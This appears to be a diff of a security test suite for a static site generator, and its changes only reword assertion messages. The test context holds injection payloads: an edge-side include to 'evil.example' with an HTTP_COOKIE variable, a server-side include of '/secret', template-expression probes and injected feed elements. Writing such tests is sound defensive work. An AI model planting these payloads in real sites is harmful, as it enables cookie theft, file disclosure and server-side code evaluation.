@@ -26,7 +26,7 @@ def in_key(site, key, value):
     ended = site.build()
     found = site_dangers(site) if ended.code == 0 else []
     expect(not found, "; ".join(found[:3]))
-    expect("49" not in site.page("/local/e/").replace("2049", ""), "a template in a text is evaluated")
+    expect("49" not in site.page("/local/e/").replace("2049", ""), "a template expression in a text is evaluated")
 
 
 FAMILY.table(in_key, [
@@ -75,7 +75,7 @@ def feeds(site):
     no_danger(site)
     for path in ("feed.xml", "atom.xml", "sitemap.xml", "sitemap-news.xml"):
         names = [name for name, _ in xml_elements((site.public / path).read_bytes())]
-        expect("x-inj" not in names, f"{path} has a made-up element")
+        expect("x-inj" not in names, f"{path} contains an injected element")
     expect(any(item["title"].startswith("</title>") for item in json.loads(site.read("feed.json"))["items"]),
            "the JSON feed has lost the title")
 
@@ -96,7 +96,7 @@ def includes_in_text(site):
     site.built()
     found = [path for path in site.published() if "#include virtual=\"/secret\"" in site.read(path).replace("<!-- #", "")
              and "<!--#include virtual=\"/secret" in site.read(path)]
-    expect(not found, f"a command of an article is published in {found[:3]}")
+    expect(not found, f"an include command of an article is published in {found[:3]}")
 
 
 @FAMILY.attack("an edge-side include and an Angular, Vue or Jinja expression in a body and in raw HTML")
@@ -105,7 +105,7 @@ def edge_includes(site):
     site.article("local/e.md", '<esi:include src="http://evil.example/"/>\n\n<esi:vars>$(HTTP_COOKIE)</esi:vars>\n\n{{ 7*7 }}')
     site.built()
     page = site.page("/local/e/")
-    expect("<esi:include src=\"http://evil" not in page and "<esi:vars>" not in page, "an edge obeys a command of an article")
+    expect("<esi:include src=\"http://evil" not in page and "<esi:vars>" not in page, "an edge server would execute a command of an article")
     expect("49" not in page.split("<main")[1].split("</article>")[0], "an expression is evaluated")
 
 
@@ -151,4 +151,4 @@ def slug(site):
     ended = site.build()
     found = site_dangers(site) if ended.code == 0 else []
     expect(not found, "; ".join(found[:3]))
-    expect(all("<x-inj" not in value for value in attribute_values(site.page("/local/"), "a", "href")), "raw in a link")
+    expect(all("<x-inj" not in value for value in attribute_values(site.page("/local/"), "a", "href")), "the slug is unescaped in a link")
